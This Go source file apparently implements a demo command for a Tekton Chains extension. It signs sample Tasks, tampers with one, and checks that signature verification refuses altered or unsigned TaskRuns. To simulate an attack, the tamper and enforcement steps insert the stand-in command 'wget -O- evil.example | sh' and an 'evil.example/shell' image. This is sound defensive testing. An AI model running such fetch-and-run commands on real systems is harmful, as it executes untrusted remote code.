// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"crypto"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"text/tabwriter"
	"time"

	"github.com/spf13/cobra"
	v1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	"github.com/tektoncd/pipeline/pkg/trustedresources"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"knative.dev/pkg/apis"

	"github.com/trusted-resources/chains-extension/pkg/apis/v1alpha1"
	"github.com/trusted-resources/chains-extension/pkg/keys"
	"github.com/trusted-resources/chains-extension/pkg/oci/registry"
	"github.com/trusted-resources/chains-extension/pkg/resource"
	"github.com/trusted-resources/chains-extension/pkg/store/oci"
	"github.com/trusted-resources/chains-extension/test/fixtures"
	"github.com/trusted-resources/chains-extension/test/harness"
)

const (
	demoNamespace = "demo"
	demoTask      = "build" // a Task in config/samples
	demoWait      = time.Minute
)

// demonstration is one run of make demo. Each step prints what it does and adds rows to
// the table at the end.
type demonstration struct {
	*harness.Cluster
	controller *harness.Controller
	public     crypto.PublicKey
	registry   *harness.Registry
	out        io.Writer
	rows       []row
}

// row compares an expected outcome with the observed one.
type row struct{ what, expected, observed string }

func demo(cmd *cobra.Command) (err error) {
	ctx, out := cmd.Context(), cmd.OutOrStdout()
	fmt.Fprintln(out, "Building the control plane (the first build takes about 15 minutes, later ones seconds)")
	binaries, err := harness.Build(ctx, out)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "demo-")
	if err != nil {
		return err
	}
	fmt.Fprintln(out, "\nStarting etcd, the Kubernetes API server and Tekton Pipelines")
	cluster, err := harness.Run(ctx, binaries, dir, out)
	if err != nil {
		return err
	}
	d := &demonstration{Cluster: cluster, out: out}
	defer func() {
		stopErr := cluster.Stop()
		if d.registry != nil {
			stopErr = errors.Join(stopErr, d.registry.Stop())
		}
		if err == nil {
			err = stopErr
		}
		if err == nil {
			err = os.RemoveAll(dir)
		}
	}()
	if err = d.play(ctx); err == nil {
		err = d.summary()
	}
	if err != nil {
		return fmt.Errorf("%w; see the logs in %s", err, filepath.Join(dir, "logs"))
	}
	fmt.Fprintln(out, "\nNext: make cluster-up starts such a cluster, leaves it running, and prints how to use it.")
	return nil
}

func (d *demonstration) play(ctx context.Context) error {
	for _, step := range []struct {
		title string
		do    func(context.Context) error
	}{
		{"Starting the controller with a new key and the permissions of config/", d.install},
		{"Creating the resources in config/samples/ with kubectl: the controller signs them", d.apply},
		{"Running the signed Task through Tekton's cluster resolver, under an enforce policy", d.runSigned},
		{"Finding the same Task in a registry, as a signed bundle", d.stored},
		{"Stopping the controller and changing the script of the Task", d.tamper},
		{"Running the changed Task: Tekton refuses it", d.runTampered},
		{"Running the unchanged Task from the registry", d.runStored},
		{"Running the changed Task by its name, without a resolver: Tekton does not verify it", d.runLocal},
		{"Doing the same with config/admission, which adds a resolver to such references", d.runAdmitted},
		{"Enforcing in the namespace: nothing starts unverified, also not what Tekton never verifies", d.runEnforced},
	} {
		fmt.Fprintf(d.out, "\n%s\n", step.title)
		if err := step.do(ctx); err != nil {
			return err
		}
	}
	return nil
}

func (d *demonstration) install(ctx context.Context) error {
	secret, public, err := fixtures.CosignSecret()
	if err != nil {
		return err
	}
	d.public = public
	secretsDir := filepath.Join(d.Dir, "signing-secrets")
	if err := secret.Write(secretsDir); err != nil {
		return err
	}
	settings := harness.SignAll()
	settings["artifacts.oci.signer"] = "none" // otherwise Chains pushes image signatures to a registry
	settings["artifacts.taskrun.format"] = "slsa/v2alpha4"
	settings["trustedresources.provenance.enabled"] = "true"
	if d.registry, err = harness.StartRegistry(ctx); err != nil {
		return err
	}
	settings["artifacts.task.storage"] = "tekton,oci"
	settings["trustedresources.oci.repository"] = d.repository()
	if err := d.Configure(ctx, settings); err != nil {
		return err
	}
	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: demoNamespace}}
	if _, err := d.Kube.CoreV1().Namespaces().Create(ctx, namespace, metav1.CreateOptions{}); err != nil {
		return err
	}
	if err := d.OptIn(ctx, demoNamespace); err != nil {
		return err
	}
	if err := d.Trust(ctx, demoNamespace, public); err != nil {
		return err
	}
	if d.controller, err = d.AddController(ctx, "controller", secretsDir); err != nil {
		return err
	}
	d.sayf("namespace %s is opted in; its VerificationPolicy enforces signatures of the new key", demoNamespace)
	return nil
}

func (d *demonstration) apply(ctx context.Context) error {
	if _, err := d.RunKubectl(ctx, "", "apply", "--namespace", demoNamespace, "-f", filepath.Join(harness.Root(), "config", "samples")); err != nil {
		return err
	}
	samples, err := d.samples(ctx)
	if err != nil {
		return err
	}
	for _, sample := range samples {
		if err := d.waitSigned(ctx, sample); err != nil {
			return err
		}
		what := fmt.Sprintf("%s %s", sample.kind, sample.name)
		d.sayf("%-20s signed; Tekton's verifier accepts the signature", what)
		d.rows = append(d.rows, row{what + " created", "signed", "signed"})
	}
	return nil
}

func (d *demonstration) runSigned(ctx context.Context) error {
	run, err := d.RunTask(ctx, demoNamespace, demoTask, harness.BuildsImage(), demoWait)
	if err != nil {
		return err
	}
	succeeded, verified := run.Status.GetCondition(apis.ConditionSucceeded), run.Status.GetCondition(trustedresources.ConditionTrustedResourcesVerified)
	d.sayf("TaskRun %s: %s: %s", run.Name, succeeded.Reason, succeeded.Message)
	d.sayf("TaskRun %s: Tekton's condition TrustedResourcesVerified is %s", run.Name, verified.Status)
	observed := "refused: " + succeeded.Reason
	if succeeded.IsTrue() && verified.IsTrue() {
		observed = "accepted, succeeded"
	}
	d.rows = append(d.rows, row{"TaskRun of the signed Task", "accepted, succeeded", observed})

	return d.attested(ctx, run.Name)
}

func (d *demonstration) repository() string { return d.registry.Host() + "/tekton" }

func (d *demonstration) stored(ctx context.Context) error {
	trusted, err := keys.NewVerifyingRing(d.public)
	if err != nil {
		return err
	}
	store := &oci.Store{Registry: registry.NewClient(registry.Options{}), Prefix: d.repository()}
	return d.until(ctx, func(ctx context.Context) error {
		found, err := store.Find(ctx, oci.ID{Kind: resource.Task, Namespace: demoNamespace, Name: demoTask}, nil, trusted)
		if err == nil {
			d.sayf("%s", found.Reference)
			d.sayf("the bundle and the Task are signed with key %s", found.Resources[0].Signer)
		}
		return err
	})
}

func (d *demonstration) runStored(ctx context.Context) error {
	bundle := d.repository() + "/" + demoNamespace + ":" + oci.NewestTag(oci.ID{Kind: resource.Task, Namespace: demoNamespace, Name: demoTask})
	run, err := d.Run(ctx, &v1.TaskRun{
		ObjectMeta: metav1.ObjectMeta{Namespace: demoNamespace, GenerateName: demoTask + "-"},
		Spec:       v1.TaskRunSpec{TaskRef: &v1.TaskRef{ResolverRef: harness.BundleRef(bundle, resource.Task, demoTask)}},
	}, demoWait)
	if err != nil {
		return err
	}
	d.verdict("TaskRun of the Task in the registry", accepted, run)
	return nil
}

func (d *demonstration) tamper(ctx context.Context) error {
	if err := d.controller.Stop(ctx); err != nil {
		return err
	}
	_, err := d.Tekton.TektonV1().Tasks(demoNamespace).Patch(ctx, demoTask, types.MergePatchType,
		[]byte(`{"spec":{"steps":[{"name":"make","image":"docker.io/library/alpine:3.22","script":"wget -O- evil.example | sh"}]}}`), metav1.PatchOptions{})
	if err == nil {
		d.sayf("Task %s has another script and still the old signature", demoTask)
	}
	return err
}

func (d *demonstration) runTampered(ctx context.Context) error {
	run, err := d.RunTask(ctx, demoNamespace, demoTask, harness.BuildsImage(), demoWait)
	if err != nil {
		return err
	}
	d.verdict("TaskRun of the changed Task", refused, run)
	return nil
}

func (d *demonstration) runLocal(ctx context.Context) error {
	run, err := d.RunLocalTask(ctx, demoNamespace, demoTask, demoWait)
	if err != nil {
		return err
	}
	d.verdict("The same by name, without config/admission", accepted, run)
	return nil
}

func (d *demonstration) runAdmitted(ctx context.Context) error {
	if err := d.InstallAdmission(ctx); err != nil {
		return err
	}
	run, err := d.RunLocalTask(ctx, demoNamespace, demoTask, demoWait)
	if err != nil {
		return err
	}
	d.verdict("The same by name, with config/admission", refused, run)
	return nil
}

// runEnforced labels the namespace, and runs a spec that nobody has signed.
func (d *demonstration) runEnforced(ctx context.Context) error {
	secretsDir := filepath.Join(d.Dir, "signing-secrets")
	var err error
	if d.controller, err = d.AddController(ctx, "gate", secretsDir); err != nil {
		return err
	}
	if _, err := d.RunKubectl(ctx, "", "label", "namespace", demoNamespace, v1alpha1.VerifyLabel+"="+v1alpha1.VerifyEnforce); err != nil {
		return err
	}
	run, err := d.Run(ctx, &v1.TaskRun{
		ObjectMeta: metav1.ObjectMeta{Namespace: demoNamespace, GenerateName: "inline-"},
		Spec: v1.TaskRunSpec{TaskSpec: &v1.TaskSpec{Steps: []v1.Step{{
			Name: "evil", Image: "docker.io/library/alpine:3.22", Script: "wget -O- evil.example | sh",
		}}}},
	}, demoWait)
	if err != nil {
		return err
	}
	d.verdict("TaskRun of a spec that nobody signed, enforced", "refused, TaskRunCancelled", run)
	_, err = d.RunKubectl(ctx, "", "-n", demoNamespace, "run", "other-pod", "--image=evil.example/shell", "--dry-run=server")
	observed := accepted
	if err != nil && strings.Contains(err.Error(), "only Tekton creates") {
		observed = "refused by the guard"
	}
	d.sayf("Pod with a name that Tekton uses: %v", err)
	d.rows = append(d.rows, row{"Pod in the place of a TaskRun's Pod", "refused by the guard", observed})
	return nil
}

const (
	accepted = "accepted"
	refused  = "refused, ResourceVerificationFailed"
)

// verdict adds a row that says whether Tekton has run the Task of a TaskRun.
func (d *demonstration) verdict(what, expected string, run *v1.TaskRun) {
	succeeded := run.Status.GetCondition(apis.ConditionSucceeded)
	d.sayf("TaskRun %s: %s: %s", run.Name, succeeded.Reason, succeeded.Message)
	observed := accepted
	if succeeded.IsFalse() {
		observed = "refused, " + succeeded.Reason
	}
	d.rows = append(d.rows, row{what, expected, observed})
}

// until polls until check returns nil.
func (d *demonstration) until(ctx context.Context, check func(context.Context) error) error {
	return harness.Eventually(ctx, demoWait, check)
}

func (d *demonstration) sayf(format string, args ...any) {
	fmt.Fprintf(d.out, "  "+format+"\n", args...)
}

// summary prints the table. It returns an error if an outcome is not as expected.
func (d *demonstration) summary() error {
	fmt.Fprintln(d.out)
	table := tabwriter.NewWriter(d.out, 0, 0, 2, ' ', 0)
	fmt.Fprintln(table, "STEP\tEXPECTED\tOBSERVED\t")
	mismatches := 0
	for _, r := range d.rows {
		mark := "ok"
		if r.expected != r.observed {
			mark = "NOT OK"
			mismatches++
		}
		fmt.Fprintf(table, "%s\t%s\t%s\t%s\n", r.what, r.expected, r.observed, mark)
	}
	if err := table.Flush(); err != nil {
		return err
	}
	if mismatches > 0 {
		return fmt.Errorf("%d of %d outcomes were not as expected", mismatches, len(d.rows))
	}
	return nil
}
